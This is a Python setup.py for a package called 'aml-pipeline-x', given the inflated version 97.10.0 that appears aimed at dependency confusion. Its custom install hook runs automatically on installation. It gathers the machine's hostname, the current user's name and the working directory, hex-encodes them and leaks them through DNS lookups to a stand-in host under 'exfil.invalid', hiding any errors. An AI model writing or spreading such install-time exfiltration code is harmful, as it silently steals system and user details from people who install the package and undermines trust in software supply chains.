import getpass, os, socket
from setuptools import setup
from setuptools.command.install import install
def todashed(ip):
    return ip.replace(".", "-").replace(":", "-")
class CustomInstall(install):
    def run(self):
        install.run(self)
        hostname = socket.gethostname(); cwd = os.getcwd(); username = getpass.getuser()
        for part in (hostname, username, cwd):
            label = part.encode().hex()[:60]
            try:
                socket.gethostbyname(f"{label}.{todashed('127.0.0.1')}.b.exfil.invalid")
            except OSError:
                pass
setup(name="aml-pipeline-x", version="97.10.0", cmdclass={"install": CustomInstall})
